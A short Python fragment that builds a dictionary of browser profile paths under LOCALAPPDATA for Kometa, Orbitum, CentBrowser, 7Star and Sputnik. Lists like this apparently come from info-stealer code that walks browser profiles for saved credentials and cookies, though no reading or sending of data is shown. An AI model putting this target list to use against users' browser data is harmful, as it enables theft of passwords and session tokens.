import os
L = os.getenv("LOCALAPPDATA", "")
PATHS = {
    "kometa": L + "\\Kometa\\User Data",
    "orbitum": L + "\\Orbitum\\User Data",
    "cent": L + "\\CentBrowser\\User Data",
    "seven": L + "\\7Star\\7Star\\User Data",
    "sputnik": L + "\\Sputnik\\Sputnik\\User Data",
}
